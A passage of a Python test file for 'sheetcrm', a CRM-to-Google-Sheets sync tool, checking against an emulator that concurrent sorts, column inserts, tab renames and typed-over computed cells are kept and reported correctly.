    _, _, plan = plan_sync(t.book.read(), Config(), AS_OF)
    seen: dict = {}

    def person(e):
        column_edit(e, key, edit)
        seen["rows"] = e.values(key, "Opportunities")

    if when == "window":
        in_the_window(emu, person)            # after the key re-read, just before the batch
    else:
        emu.between_requests(person)          # just before the key re-read
    t.reset()
    result = t.book.write(plan)
    # No request added to find it; the sheet's first sync also reads the rules under its first
    # dropdowns (with the header row, which leaves the guide for the next sync when a column
    # moved before that read: test_charts_guides).
    assert t.counts() == (3, 2 if when == "window" else 1)
    theirs = {h: cells for h, cells in by_header(seen["rows"]).items() if h != "ID"}
    # Every cell the person typed is still there, under its own header, and the sync says so.
    after = by_header(emu.values(key, "Opportunities"))
    assert {h: after[h] for h in theirs} == theirs
    assert result.warnings and all("Opportunities: a column was" in line for line in result.warnings)
    # Nothing sheetcrm wrote is under another column's header, and the next syncs finish the job.
    converge_deals = [sync(t.book, Config(), as_of=AS_OF) for _ in range(2)]
    assert not sync(t.book, Config(), as_of=AS_OF).plan, converge_deals
    final = by_header(emu.values(key, "Opportunities"))
    assert {h: final[h] for h in theirs} == theirs
    assert len(set(final["ID"])) == 3 and all(i.startswith("OPP-") for i in final["ID"])
    assert final["Probability %"] == [0.5, 0.5, 0.5]


STAGE_PROBABILITY = {"Prospecting": 0.1, "Qualification": 0.2, "Proposal": 0.5, "Negotiation": 0.75}


def staged_deals(emu) -> str:
    stages = list(STAGE_PROBABILITY)
    rows = [["ID", "Name", "Account", "Stage", "Amount", "Close Date"]] + \
        [["", f"Deal {i}", "Acme", stages[i % 4], 100 * i, "2026-12-01"] for i in range(1, 9)]
    return emu.create_spreadsheet("CRM", {"Opportunities": rows, "Accounts": [["ID", "Name"], ["", "Acme"]]})


def wrong_probabilities(rows: list[list]) -> list[list]:
    cols = by_header(rows)
    return [[name, stage, p] for name, stage, p in zip(cols["Name"], cols["Stage"], cols["Probability %"])
            if p != "" and p != STAGE_PROBABILITY[stage]]


def sort_deals(e, key: str, column: int, descending: bool) -> None:
    e.sort_rows(key, "Opportunities", column, descending=descending)


def test_a_repair_moved_by_a_second_sort_is_read_back_and_put_right(emu):
    # Found by a tester: a sort before the batch and another before its repair left every
    # row with another deal's Probability, Weighted and Category, and the sync said nothing.
    # The repair (computed cells written by position) is now read back and put right in turn.
    key = staged_deals(emu)
    t = Traced(key)
    _, _, plan = plan_sync(t.book.read(), Config(), AS_OF)

    def person(e):
        sort_deals(e, key, 4, True)                  # by Amount, before the batch
        # before the read-back: nothing; before the repair: sorted again, by Name
        e.between_requests(lambda e2: e2.between_requests(lambda e3: sort_deals(e3, key, 1, False)))

    in_the_window(emu, person)
    t.reset()
    result = t.book.write(plan)
    assert wrong_probabilities(emu.values(key, "Opportunities")) == []
    assert t.counts()[0] >= 3 and t.trace[-1].kind == "read"   # the last repair was read back
    assert not result.warnings


def test_rows_that_keep_moving_while_repairs_land_are_said(emu):
    key = staged_deals(emu)
    t = Traced(key)
    _, _, plan = plan_sync(t.book.read(), Config(), AS_OF)
    moving = {"on": True, "n": 0}

    def person(e):  # before every request after the key re-read, the order is reversed
        if not moving["on"]:
            return
        moving["n"] += 1
        sort_deals(e, key, 4, descending=moving["n"] % 2 == 1)
        e.between_requests(person)

    in_the_window(emu, person)
    result = t.book.write(plan)
    moving["on"] = False
    assert any("Opportunities: rows kept moving while sheetcrm wrote" in line for line in result.warnings)
    for _ in range(2):
        sync(t.book, Config(), as_of=AS_OF)
    assert wrong_probabilities(emu.values(key, "Opportunities")) == []


def test_a_retried_batch_finds_its_own_new_headers_and_drops_nothing(emu):
    # The batch that adds sheetcrm's computed columns lands, its answer is lost, and the retry's
    # re-read finds "Probability %" where the sync's read saw an empty header: no column moved.
    key = staged_deals(emu)
    t = Traced(key)
    _, _, plan = plan_sync(t.book.read(), Config(), AS_OF)
    in_the_window(emu, lambda e: e.drop_next(1, after_applying=True))
    result = t.book.write(plan)
    assert not result.warnings   # was: "a column was inserted, deleted, moved or renamed …"
    assert wrong_probabilities(emu.values(key, "Opportunities")) == []
    assert all(p != "" for p in by_header(emu.values(key, "Opportunities"))["Probability %"])


def test_a_value_typed_over_a_computed_cell_is_kept_and_said_with_the_same_requests(emu):
    """Google as .xlsx (tests/test_computed_columns_theirs.py): a person's 9999 over sheetcrm's
    Weighted Amount stays and is said at its cell, also after a sort moved it. The sync that
    finds it writes only the Validation tab, with the reads of a no-op and one write (the
    budget of a sync that changes only sheetcrm's own tabs); the next one is a no-op."""
    key = staged_deals(emu)
    t = Traced(key)
    for _ in range(3):
        if not sync(t.book, Config(), as_of=AS_OF).plan:
            break
    t.reset()
    assert not sync(t.book, Config(), as_of=AS_OF).plan
    quiet = t.counts()
    header = emu.values(key, "Opportunities")[0]
    col = header.index("Weighted Amount")
    letter = chr(ord("A") + col)
    emu.set_values(key, f"Opportunities!{letter}2", [[9999]])
    t.reset()
    found = sync(t.book, Config(), as_of=AS_OF)
    typed = [(i.tab, i.row, i.column, i.value) for i in found.crm.report.issues if i.code == "computed_cell_typed"]
    assert typed == [("Opportunities", 2, letter, 9999)]
    assert set(found.cells_written) == {"Validation"}
    assert t.counts() == (quiet[0], 1)
    assert emu.values(key, "Opportunities")[1][col] == 9999
    t.reset()
    assert not sync(t.book, Config(), as_of=AS_OF).plan
    assert t.counts() == quiet
    emu.sort_rows(key, "Opportunities", header.index("Amount"), descending=True)
    moved = sync(t.book, Config(), as_of=AS_OF)
    row = next(r for r, values in enumerate(emu.values(key, "Opportunities"), 1) if values[col] == 9999)
    assert [(i.row, i.column) for i in moved.crm.report.issues if i.code == "computed_cell_typed"] == [(row, letter)]
    assert not [w for w in moved.plan.writes if w.tab == "Opportunities"]


def test_a_formula_over_a_computed_cell_showing_what_sheetcrm_wrote_is_kept_and_said_once_met(emu):
    """A person's =35 over sheetcrm's Score of 35: the values read shows 35, what sheetcrm
    wrote, so the cell looked sheetcrm's. Once the lead's score changed, every sync planned 40
    there, the guard dropped it (the cell holds a formula), "1 cell skipped ... the next sync
    plans it again" and _sheetcrm written every sync, nothing said at the cell. As on .xlsx it
    is said (computed_cell_typed) and kept, and the sheet syncs to a no-op."""
    key = leads_sheet(emu, [["ID", "Last Name", "Company", "Email"], ["LEAD-0001", "Baker", "B Co", ""],
                            ["LEAD-0002", "Clark", "C Co", ""]])
    t = Traced(key)
    sync(t.book, Config(), as_of=AS_OF)
    score = emu.values(key, "Leads")[0].index("Score")
    letter = chr(ord("A") + score)
    assert emu.values(key, "Leads")[1][score] == 35
    emu.set_values(key, f"Leads!{letter}2", [["=35"]])
    emu.set_values(key, "Leads!D2", [["baker@example.com"]])  # the score becomes 40
    met = sync(t.book, Config(), as_of=AS_OF)
    assert [(w.row, w.col, w.value) for w in met.result.skipped] == [(2, score + 1, 40)]
    assert met.result.warnings == [f"Leads: the cell {letter}2 holds a formula where sheetcrm was to write, and "
                                   "sheetcrm never writes over a formula: it is kept, and from the next sync on read "
                                   "as a formula"]
    said = sync(t.book, Config(), as_of=AS_OF)
    assert [(i.row, i.column) for i in said.crm.report.issues if i.code == "computed_cell_typed"] == [(2, letter)]
    assert not said.result.skipped
    t.reset()
    assert not sync(t.book, Config(), as_of=AS_OF).plan
    assert t.counts() == (3, 0)
    assert emu.service.book(key).sheets[0].cells[1][score]["userEnteredValue"] == {"formulaValue": "=35"}


@pytest.mark.parametrize("edit, when", [("rename", "before the re-read"), ("delete", "before the re-read"),
                                        ("delete", "in the window"), ("delete", "in the first sync's window")])
def test_a_tab_renamed_or_deleted_while_a_sync_runs_is_said_and_the_rest_is_written(emu, edit, when):
    """Google refuses a range or a sheet ID that no longer exists (400): a person renaming or
    deleting Leads after the sync's read stopped the whole write with "Google Sheets answered
    400 INVALID_ARGUMENT: Unable to parse range: 'Leads'!A:A" (or "No grid with id"). The
    tab list is read again, the write goes on without that tab, and one line names it."""
    key = leads_sheet(emu, [LEAD_HEADER, *leads(6)], {"Notes": [["a tab of the team's"]]})  # Leads is not the last tab
    t = Traced(key)
    if when != "in the first sync's window":  # that one adds sheetcrm's tabs in the same batch
        sync(t.book, Config(), as_of=AS_OF)
    emu.set_values(key, "Leads!A8", leads(7, with_ids=False)[-1:])  # a new lead: an ID fill and its history
    _, _, plan = plan_sync(t.book.read(), Config(), AS_OF)
    assert {"Leads", "Lead Status History", "_sheetcrm"} <= {w.tab for w in plan.writes}

    def person(e):
        sheet_id = e.sheet_id(key, "Leads")
        e.apply(key, [{"deleteSheet": {"sheetId": sheet_id}} if edit == "delete" else
                      {"updateSheetProperties": {"properties": {"sheetId": sheet_id, "title": "Old leads"},
                                                 "fields": "title"}}])
        seen["rows"] = e.values(key, "Old leads") if edit == "rename" else None

    seen: dict = {}
    if when != "before the re-read":
        in_the_window(emu, person)
    else:
        person(emu)
    result = t.book.write(plan)

    n = sum(1 for w in plan.writes if w.tab == "Leads")
    assert result.warnings == [f"Leads: the tab was renamed or deleted since sheetcrm read the spreadsheet; {n} cells "
                               "meant for it were not written"]
    # Nothing of Leads' is written anywhere: the renamed tab holds what the person left, and the
    # new lead's history waits with its ID; sheetcrm's own bookkeeping is written.
    assert "Leads" not in result.written and result.written["_sheetcrm"]
    history = {r[0] for r in emu.values(key, "Lead Status History")[1:]}
    assert history <= {f"LEAD-{i:04d}" for i in range(1, 7)}
    if edit == "rename":
        assert emu.values(key, "Old leads") == seen["rows"]
        emu.apply(key, [{"updateSheetProperties": {"properties": {"sheetId": emu.sheet_id(key, "Old leads"),
                                                                  "title": "Leads"}, "fields": "title"}}])
        sync(t.book, Config(), as_of=AS_OF)  # named back: the next sync gives the lead an ID once
        ids = [r[0] for r in emu.values(key, "Leads")[1:]]
        assert len(set(ids)) == len(ids) == 7 and all(ids)
        history = [r[0] for r in emu.values(key, "Lead Status History")[1:]]
        assert history.count(ids[-1]) == 1


@pytest.mark.parametrize("before, reads", [("values", 4), ("formats", 5)])
def test_a_tab_renamed_between_the_tab_list_and_the_values_is_read_under_its_new_name(emu, before, reads):
    """The read asks for the tab list, then for every tab's values by title, then for the
    formats of the columns that need them: a tab renamed in between made Google refuse the
    read (400, "Unable to parse range") and the sync stop. The list is read again and the
    tabs as they are now."""
    # A team's own column of numbers on a tab of records: its formats are read (`_shown_candidates`).
    key = leads_sheet(emu, [LEAD_HEADER + ["Next Call"], *(row + [46000] for row in leads(3))])
    t = Traced(key)

    def rename(e):
        e.apply(key, [{"updateSheetProperties": {"properties": {"sheetId": e.sheet_id(key, "Leads"),
                                                                "title": "Old leads"}, "fields": "title"}}])

    # The formats are read right after the values: a hook on the values request arms one for
    # the request after it.
    emu.before_next("values:batchGet", rename if before == "values" else lambda e: e.between_requests(rename))
    snapshot = t.book.read()
    grid = snapshot.tabs["Old leads"]
    assert "Leads" not in snapshot.tabs and grid.rows[1][0] == "LEAD-0001"
    # The list and the values twice (and the refused formats read); "Old leads" is no tab of
    # records, so no formats are read for it.
    assert t.counts() == (reads, 0)


@pytest.mark.parametrize("typed, shows", [(9999, 9999), ("=1+1", 2), ("ask Ana", "ask Ana")])
def test_a_value_typed_over_a_computed_cell_between_the_read_and_the_write_is_kept(emu, typed, shows):
    # Known since stop 31: the guarded write checked the row's ID, not the cell, so a value a
    # person typed over a Weighted Amount while a sync was planning was overwritten by what
    # sheetcrm computed from its read. The write now also expects the target as read
    # (`CellWrite.held`): that cell is left, the read-back does not "repair" it, and the next
    # sync says so at the cell.
    key = staged_deals(emu)
    t = Traced(key)
    for _ in range(3):
        if not sync(t.book, Config(), as_of=AS_OF).plan:
            break
    header = emu.values(key, "Opportunities")[0]
    weighted, amount = header.index("Weighted Amount"), header.index("Amount")
    letter, money = chr(ord("A") + weighted), chr(ord("A") + amount)
    emu.set_values(key, f"Opportunities!{money}2:{money}3", [[5000], [7000]])
    # The sync's read is the first values:batchGet, its write's re-read the second.
    emu.before_next("values:batchGet", lambda e: e.before_next(
        "values:batchGet", lambda e: e.set_values(key, f"Opportunities!{letter}2", [[typed]])))
    result = sync(t.book, Config(), as_of=AS_OF)
    planned = {w.row: w.value for w in result.plan.writes if w.tab == "Opportunities" and w.col == weighted + 1}
    assert set(planned) == {2, 3}
    rows = emu.values(key, "Opportunities")
    assert rows[1][weighted] == shows
    assert rows[2][weighted] == planned[3]   # the other deal's cell is written as planned
    found = sync(t.book, Config(), as_of=AS_OF)
    assert [(i.tab, i.row, i.column) for i in found.crm.report.issues
            if i.code == "computed_cell_typed"] == [("Opportunities", 2, letter)]
    assert not [w for w in found.plan.writes if w.tab == "Opportunities"]
    assert emu.values(key, "Opportunities")[1][weighted] == shows


def _adams_then_clark(emu):
    """A spreadsheet synced once (sheetcrm's tabs made), then a new lead, Adams, in row 3."""
    key = leads_sheet(emu, [["ID", "Last Name", "Company"], ["LEAD-0001", "Baker", "B Co"]])
    sync(Traced(key).book, Config(), as_of=AS_OF)
    emu.set_values(key, "Leads!A3:C3", [["", "Adams", "A Co"]])
    return key


def test_two_syncs_at_once_never_hand_out_one_id(emu):
    # Machine A reads (Adams gets LEAD-0002); a person inserts Clark above Adams; machine B
    # reads (Clark LEAD-0002, Adams LEAD-0003); A writes; B writes. B's fill of Clark found an
    # empty ID cell and landed: two leads were LEAD-0002 and the mark said 2.
    key = _adams_then_clark(emu)
    a, b = Traced(key), Traced(key)
    _, _, plan_a = plan_sync(a.book.read(), Config(), AS_OF)
    emu.insert_rows(key, "Leads", 2)
    emu.set_values(key, "Leads!A3:C3", [["", "Clark", "C Co"]])
    wrote = []

    def a_writes_first(phase, done, total):
        if phase == "writing" and not wrote:
            wrote.append(a.book.write(plan_a))

    b.reset()
    outcome = sync(b.book, Config(), as_of=AS_OF, progress=a_writes_first)
    assert wrote and not outcome.result.skipped
    rows = emu.values(key, "Leads")
    assert [r[:2] for r in rows[1:]] == [["LEAD-0001", "Baker"], ["LEAD-0003", "Clark"], ["LEAD-0002", "Adams"]]
    assert ["LEAD", 3] in emu.values(key, "_sheetcrm")
    # B's first batch was refused whole (one write), then B read the tab list again (one read)
    # and synced again from a fresh read: the requests of a conflict, and only then.
    assert sum(1 for t in b.trace if t.kind != "read") == 2
    assert not sync(b.book, Config(), as_of=AS_OF).plan and not sync(a.book, Config(), as_of=AS_OF).plan


def test_a_sync_that_meets_another_every_time_says_so_in_one_line(emu):
    key = _adams_then_clark(emu)
    a, b = Traced(key), Traced(key)
    _, _, plan_a = plan_sync(a.book.read(), Config(), AS_OF)

    def a_writes_first(phase, done, total):
        if phase == "writing":
            a.book.write(plan_a)

    with pytest.raises(WorkbookConflict) as e:
        sync(b.book, Config(), as_of=AS_OF, attempts=1, progress=a_writes_first)
    assert str(e.value).endswith("another sync wrote to it while this one was working on it; nothing was written "
                                 "(1 attempt); run the sync again")  # was: "… when it is saved", said of a file
    assert [r[:2] for r in emu.values(key, "Leads")[1:]] == [["LEAD-0001", "Baker"], ["LEAD-0002", "Adams"]]


def test_a_batch_whose_answer_was_lost_knows_its_own_generation_of_the_marks(emu):
    # The batch handing out LEAD-0002 lands and its answer is lost: the retry's batch is refused
    # for the generation it already created, which carries this write's token, so it landed.
    key = _adams_then_clark(emu)
    t = Traced(key)
    _, _, plan = plan_sync(t.book.read(), Config(), AS_OF)
    in_the_window(emu, lambda e: e.drop_next(1, after_applying=True))
    result = t.book.write(plan)  # was: WorkbookConflict, "another sync wrote to it"
    assert [r[:2] for r in emu.values(key, "Leads")[1:]] == [["LEAD-0001", "Baker"], ["LEAD-0002", "Adams"]]
    # The ID and Adams's computed cells landed with the lost answer's batch: written, not
    # "skipped because the row changed meanwhile" (the retry found the ID cell no longer empty).
    # The mark's row is written whole, its name too (plan.whole_rows): 2 cells.
    assert not result.skipped and result.written == {"Leads": 4, "_sheetcrm": 2 * 2}
    assert ["LEAD", 2] in emu.values(key, "_sheetcrm")
    assert not sync(t.book, Config(), as_of=AS_OF).plan


def test_an_id_cell_holding_only_a_space_is_said_and_burns_no_id(emu):
    # A person "cleared" an ID by typing a space (or pasted a zero-width one): no ID to read,
    # but no empty cell for the guarded fill either. Each sync handed out a new ID, dropped it
    # ("rows changed meanwhile"), moved the mark on, and said nothing at the cell.
    key = leads_sheet(emu, [["ID", "Last Name", "Company"], ["LEAD-0001", "Baker", "B Co"],
                            [" ", "Space", "S Co"], ["\u200b", "Zwsp", "Z Co"]])
    t = Traced(key)
    first = sync(t.book, Config(), as_of=AS_OF)
    assert not first.result.skipped
    said = [(i.row, i.column, i.value) for i in first.crm.report.issues if i.code == "id_blank_text"]
    assert said == [(3, "A", " "), (4, "A", "\u200b")]
    assert ["LEAD", 1] in emu.values(key, "_sheetcrm")
    assert not sync(t.book, Config(), as_of=AS_OF).plan
    # Cleared, the cell gets the next ID.
    emu.set_values(key, "Leads!A3", [[""]])
    sync(t.book, Config(), as_of=AS_OF)
    assert emu.values(key, "Leads")[2][:2] == ["LEAD-0002", "Space"]


def test_new_rows_alike_in_their_first_cells_swapped_by_a_sort_get_no_id_or_history_of_the_other(emu):
    # Two new leads share Last Name and Company, not Status. A sort between the key re-read and
    # the batch moved them (and Baker): both fills expected the same two cells, so the
    # read-back took an ID on the other twin as landed (LEAD-0003 logged "Qualified", then
    # "Qualified -> New" a day later) and could not take back the one on Baker's row, whose
    # LEAD-0001 was lost.
    key = leads_sheet(emu, [["ID", "Last Name", "Company", "Status"], ["LEAD-0001", "Baker", "B Co", "New"],
                            ["", "Twin", "T Co", "New"], ["", "Twin", "T Co", "Qualified"]])
    t = Traced(key)
    in_the_window(emu, lambda e: e.sort_rows(key, "Leads", 3, descending=True))  # by Status, Z→A
    sync(t.book, Config(), as_of=AS_OF)
    assert ["LEAD-0001", "Baker", "B Co", "New"] in [r[:4] for r in emu.values(key, "Leads")]
    sync(t.book, Config(), as_of=AS_OF + dt.timedelta(days=1))
    status = {r[0]: r[3] for r in emu.values(key, "Leads")[1:]}
    assert len(status) == 3 and all(status.values())
    logged = [r for r in emu.values(key, "Lead Status History")[1:]]
    # Each ID's history is its own row's: one entry, the Status the row holds.
    assert sorted((r[0], r[1], r[2]) for r in logged) == sorted((i, "", s) for i, s in status.items())


def test_a_new_row_that_repeats_another_row_exactly_gets_its_id_and_a_sort_takes_no_id_from_the_other(emu):
    # Two rows alike in every cell are alike wherever each ID lands; a sort in the write's
    # window that puts the new ID on the row holding LEAD-0001 is undone by the read-back.
    key = leads_sheet(emu, [["ID", "Last Name", "Company", "Status"], ["LEAD-0001", "Twin", "T Co", "New"],
                            ["", "Twin", "T Co", "New"], ["", "Other", "O Co", "New"]])
    t = Traced(key)
    in_the_window(emu, lambda e: e.sort_rows(key, "Leads", 1, descending=False))  # by Last Name: Other first
    first = sync(t.book, Config(locale="es"), as_of=AS_OF)
    assert not [i for i in first.crm.report.issues if i.row in (2, 3) and i.tab == "Leads"]
    sync(t.book, Config(locale="es"), as_of=AS_OF)
    rows = emu.values(key, "Leads")[1:]
    assert all(r[0] for r in rows) and len({r[0] for r in rows}) == 3  # a fill the sort moved may spend an ID
    assert ["LEAD-0001", "Twin", "T Co", "New"] in [r[:4] for r in rows]
    assert not sync(t.book, Config(locale="es"), as_of=AS_OF).plan


def test_an_id_cell_showing_an_error_is_said_as_an_error_and_never_written_over(emu):
    # A typed or pasted "#REF!" reads as Google's error text: it was said as "reads as no ID"
    # with the hint to clear the cell, which throws away the row's real ID.
    key = leads_sheet(emu, [["ID", "Last Name", "Company"], ["LEAD-0001", "Baker", "B Co"],
                            ["#REF!", "Pasted", "P Co"], ["", "New", "N Co"]])
    t = Traced(key)
    first = sync(t.book, Config(), as_of=AS_OF)
    said = {(i.row, i.code) for i in first.crm.report.issues if i.tab == "Leads" and i.row}
    assert (3, "id_error_value") in said and (3, "id_blank_text") not in said
    assert [r[0] for r in emu.values(key, "Leads")[1:]] == ["LEAD-0001", "#REF!", "LEAD-0002"]
    assert not sync(t.book, Config(), as_of=AS_OF).plan


def test_an_id_cell_whose_formula_shows_nothing_is_said_burns_one_id_and_syncs_to_a_no_op(emu):
    # The values read shows the formula's empty result: each sync handed the row a new ID
    # (LEAD-0002, LEAD-0003...), the guard dropped it (the cell is no empty one), the mark, the
    # Dashboard and _sheetcrm were written every sync, and nothing was said at the cell.
    key = emu.create_spreadsheet("CRM", {"Leads": [
        ["ID", "Last Name", "Company", "Status"], ["LEAD-0001", "Baker", "B Co", "New"],
        ['=IF(C3="VIP","LEAD-0099","")', "Formula", "F Co", "New"]]}, value_input="USER_ENTERED")
    t = Traced(key)
    first = sync(t.book, Config(locale="es"), as_of=AS_OF)  # the re-read meets the formula
    assert any(line.startswith("Leads: the cell A3 holds a formula") for line in first.result.warnings)
    assert ["LEAD", 2] in emu.values(key, "_sheetcrm")
    second = sync(t.book, Config(locale="es"), as_of=AS_OF)
    said = [(i.row, i.column, i.code) for i in second.crm.report.issues if i.tab == "Leads" and i.row]
    assert said == [(3, "A", "id_formula_empty")]
    assert any(r[1:3] == ["Leads", 3] and r[6] == "id_fórmula_vacía" for r in emu.values(key, "Validación"))
    t.reset()
    third = sync(t.book, Config(locale="es"), as_of=AS_OF)
    assert not third.plan
    # The tab list, the values, and which of the marked ID column's empty cells are formulas.
    assert t.counts() == (3, 0)
    assert ["LEAD", 2] in emu.values(key, "_sheetcrm")  # one ID spent, at the sync that met it
    assert emu.service.book(key).sheets[0].cells[2][0]["userEnteredValue"] == {
        "formulaValue": '=IF(C3="VIP","LEAD-0099","")'}
    # Cleared, the cell is an empty one again: filled, and the sheet back to a 2-read no-op.
    emu.set_values(key, "Leads!A3", [[""]])
    sync(t.book, Config(locale="es"), as_of=AS_OF)
    assert emu.values(key, "Leads")[2][:2] == ["LEAD-0003", "Formula"]
    t.reset()
    assert not sync(t.book, Config(locale="es"), as_of=AS_OF).plan
    assert t.counts() == (2, 0)


def test_a_tab_two_syncs_add_at_once_is_a_conflict_read_again_not_a_refusal(emu):
    # Both plan the Dashboard a person deleted (no ID handed out, no mark moved); the second
    # batch's addSheet was refused ("A sheet with the name … already exists") and the sync
    # stopped with Google's 400 as its one line.
    key = leads_sheet(emu, [["ID", "Last Name", "Company"], ["", "Adams", "A Co"]])
    a, b = Traced(key), Traced(key)
    sync(a.book, Config(), as_of=AS_OF)
    emu.apply(key, [{"deleteSheet": {"sheetId": emu.sheet_id(key, "Dashboard")}}])
    others = []

    def a_syncs_first(phase, done, total):
        if phase == "writing" and not others:
            others.append(sync(a.book, Config(), as_of=AS_OF))

    outcome = sync(b.book, Config(), as_of=AS_OF, progress=a_syncs_first)
    assert others and "Dashboard" in others[0].cells_written and outcome.plan.counters is None
    assert not sync(b.book, Config(), as_of=AS_OF).plan


def test_a_column_inserted_in_the_instant_before_the_batch_makes_google_refuse_it_whole(emu):
    # Found by a tester: a column inserted between the key re-read and the batch moved every
    # cell right of it, so a new deal's row landed one column over (its name under the team's
    # new Region, its account under Name...) and the read-back could only name the cells. Each
    # header column now carries a pin (column metadata, which Google moves with its column)
    # that the batch deletes where the re-read found it and creates again under its own ID:
    # moved, the delete matches nothing, the ID exists, and the atomic batch lands nothing.
    key = deals_sheet(emu)
    t = Traced(key)
    sync(t.book, Config(), as_of=AS_OF)                      # the first write pins the columns
    emu.set_values(key, "Opportunities!B5:G5", [["Deal 4", "Acme", "Proposal", 400, "2026-12-01", "note 4"]])
    _, _, plan = plan_sync(t.book.read(), Config(), AS_OF)
    sheet_id = emu.sheet_id(key, "Opportunities")

    def person(e):
        e.apply(key, [{"insertDimension": {"range": {"sheetId": sheet_id, "dimension": "COLUMNS", "startIndex": 1,
                                                     "endIndex": 2}}}])
        e.set_values(key, "Opportunities!B1:B5", [["Region"], ["EU"], ["EU"], ["US"], ["US"]])

    in_the_window(emu, person)
    t.reset()
    result = t.book.write(plan)
    writes = [x.status for x in t.trace if x.kind == "write"]
    assert writes[0] == 400 and 200 in writes        # refused whole, then aimed again and written
    rows = by_header(emu.values(key, "Opportunities"))
    assert rows["Region"] == ["EU", "EU", "US", "US"]
    assert rows["Name"] == ["Deal 1", "Deal 2", "Deal 3", "Deal 4"]
    assert rows["Notes"] == ["note 1", "note 2", "note 3", "note 4"]
    assert not any("cannot tell apart" in line for line in result.warnings), result.warnings


def test_a_conversion_whose_deal_row_a_refused_batch_left_out_links_no_missing_deal(emu):
    # Found by a tester: after a refused batch (a column moved in the window), the next attempt
    # dropped the new deal's row (its columns moved) and the lead's links that require it, but
    # the read-back took the refused attempt's links for writes that had not landed and wrote
    # them: the lead named OPP-0002, a deal that never existed, and never converted again.
    key = emu.create_spreadsheet("CRM", {
        "Leads": [["ID", "First Name", "Last Name", "Company", "Email", "Status", "Amount", "Convert"],
                  ["LEAD-0001", "Ann", "Lee", "Beta Inc", "ann@beta.com", "Qualified", 5000, ""]],
        "Opportunities": [DEAL_HEADER, ["OPP-0001", "Deal 1", "Acme", "Proposal", 100, "2026-12-01", "note 1"]],
        "Accounts": [["ID", "Name"], ["ACC-0001", "Acme"]],
        "Contacts": [["ID", "First Name", "Last Name", "Email", "Account"], ["CON-0001", "Bo", "X", "bo@acme.com", "Acme"]]})
    t = Traced(key)
    sync(t.book, Config(), as_of=AS_OF)                      # the first write pins the columns
    emu.set_values(key, "Leads!H2", [["yes"]])
    _, _, plan = plan_sync(t.book.read(), Config(), AS_OF)
    sheet_id = emu.sheet_id(key, "Opportunities")
    in_the_window(emu, lambda e: e.apply(key, [{"insertDimension": {"range": {
        "sheetId": sheet_id, "dimension": "COLUMNS", "startIndex": 1, "endIndex": 2}}}]))
    t.book.write(plan)
    for _ in range(2):
        sync(t.book, Config(), as_of=AS_OF)
    deals = by_header(emu.values(key, "Opportunities"))
    lead = by_header(emu.values(key, "Leads"))
    assert lead["Converted Opportunity"][0] in deals["ID"]
    assert deals["From Lead"].count("LEAD-0001") == 1


def test_a_date_written_beside_a_percentage_leaves_the_percentage_its_format(emu):
    # A stage change and a new activity rewrite Probability %, Weighted Amount, Days in Stage
    # and Last Activity of one row: one run of cells, one of them a date. The date's number
    # format must not be laid over its neighbours (Probability % of 50% showed 0.5).
    key = emu.create_spreadsheet("CRM", {
        "Accounts": [["ID", "Name"], ["ACC-0001", "Acme"]],
        "Opportunities": [["ID", "Name", "Account", "Stage", "Amount", "Currency", "Close Date"],
                          ["OPP-0001", "Big deal", "ACC-0001", "Prospecting", 40000, "USD", "2027-01-15"]],
        "Activities": [["ID", "Date", "Type", "Subject", "Related"],
                       ["ACT-0001", "2026-11-01", "Call", "Intro", "OPP-0001"]]})
    book = Traced(key).book
    sync(book, Config(), as_of=AS_OF)
    header = emu.values(key, "Opportunities")[0]
    cols = {h: header.index(h) for h in ("Probability %", "Weighted Amount", "Days in Stage", "Last Activity")}
    sheet = next(s for s in emu.service.book(key).sheets if s.title == "Opportunities")

    def formats() -> dict:
        return {h: (sheet.cell(1, c) or {}).get("userEnteredFormat", {}).get("numberFormat", {}).get("type")
                for h, c in cols.items()}

    assert formats() == {"Probability %": "PERCENT", "Weighted Amount": "NUMBER", "Days in Stage": "NUMBER",
                         "Last Activity": "DATE"}
    sync(book, Config(), as_of=AS_OF + dt.timedelta(days=5))  # 5 days in stage
    emu.set_values(key, "Opportunities!D2", [["Proposal"]])
    emu.set_values(key, "Activities!A3", [["ACT-0002", "2026-11-29", "Call", "Terms", "OPP-0001"]])
    sync(book, Config(), as_of=AS_OF + dt.timedelta(days=6))
    row = emu.values(key, "Opportunities")[1]
    # One run of written cells, Probability % to Last Activity (2026-11-29)
    assert [row[cols[h]] for h in cols] == [0.5, 20000, 0, 46355]
    assert formats() == {"Probability %": "PERCENT", "Weighted Amount": "NUMBER", "Days in Stage": "NUMBER",
                         "Last Activity": "DATE"}


def _filter_of(emu, key: str, tab: str) -> dict | None:
    """The tab's basic filter as Google's spreadsheets.get returns it, over HTTP."""
    import requests

    answer = requests.get(f"{emu.url}/v4/spreadsheets/{key}",
                          params={"fields": "sheets(properties.title,basicFilter)"}, timeout=10).json()
    return next(s.get("basicFilter") for s in answer["sheets"] if s["properties"]["title"] == tab)


def _set_filter(emu, key: str, tab: str, rows: int, cols: int, **specs) -> None:
    rng = {"sheetId": emu.sheet_id(key, tab), "startRowIndex": 0, "endRowIndex": rows,
           "startColumnIndex": 0, "endColumnIndex": cols}
    emu.apply(key, [{"setBasicFilter": {"filter": {"range": rng, **specs}}}])


def test_computed_columns_and_added_rows_beside_a_basic_filter_join_the_filter(emu):
    """Found attacking Google as .xlsx was (tests/test_workbook_xlsx.py,
    test_computed_columns_and_added_rows_beside_a_sheets_autofilter_join_the_filter): a team's
    filter (Data > Create a filter) on Opportunities A1:F3 stayed A1:F3 after a sync whose
    computed columns reach M. Sorting through its buttons sorted A:F alone, and each row showed
    another deal's Probability % and Weighted Amount, with nothing to say so. The filter grows in
    the sync's own batch (read in the metadata request it already makes: no request more), keeps
    its filterSpecs and sortSpecs, takes in the rows a conversion adds just below it and never a
    team's column past it."""
    def crm(filtered: bool) -> str:
        key = emu.create_spreadsheet("CRM", {
            "Opportunities": [["ID", "Name", "Account", "Stage", "Amount", "Close Date"],
                              ["OPP-0001", "D1", "ACC-0001", "Proposal", 100, "2027-01-01"],
                              ["OPP-0002", "D2", "ACC-0001", "Prospecting", 900, "2027-01-01"]],
            "Accounts": [["ID", "Name"], ["ACC-0001", "Acme"]]})
        if filtered:
            _set_filter(emu, key, "Opportunities", 3, 6,
                        sortSpecs=[{"dimensionIndex": 4, "sortOrder": "DESCENDING"}],
                        filterSpecs=[{"columnIndex": 3, "filterCriteria": {"hiddenValues": ["Lost"]}}])
        return key

    plain, key = Traced(crm(False)), Traced(crm(True))
    sync(plain.book, Config(), as_of=AS_OF)
    sync(key.book, Config(), as_of=AS_OF)
    assert key.counts() == plain.counts()
    k = key.book.key
    headers = emu.values(k, "Opportunities")[0]
